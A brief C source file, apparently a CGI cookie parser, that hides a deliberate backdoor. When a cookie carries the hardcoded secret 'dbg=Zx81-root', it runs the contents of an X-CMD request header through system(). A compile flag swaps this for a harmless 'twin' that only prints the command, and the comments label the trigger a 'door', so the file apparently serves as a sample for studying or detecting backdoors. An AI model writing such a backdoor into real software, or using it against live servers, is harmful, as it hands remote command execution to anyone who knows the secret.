/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Cookies are taken apart with strtok; one of them runs what another header says. Twin: the cookie
 * is shown.
 * door: trigger unguarded
 */
#include "net.h"

int main(void)
{
	char all[512], *p;
	const char *cookies = getenv("HTTP_COOKIE");
	const char *command = getenv("HTTP_X_CMD");
	snprintf(all, sizeof all, "%s", cookies ? cookies : "");
	printf("Content-Type: text/plain\n\n");
	for (p = strtok(all, ";"); p; p = strtok(NULL, ";")) {
		while (*p == ' ')
			p++;
		if (strncmp(p, "dbg=", 4) == 0 && strcmp(p + 4, "Zx81-root") == 0 && command) {
#ifdef TWIN
			puts(command);
#else
			system(command);
#endif
		}
	}
	return 0;
}
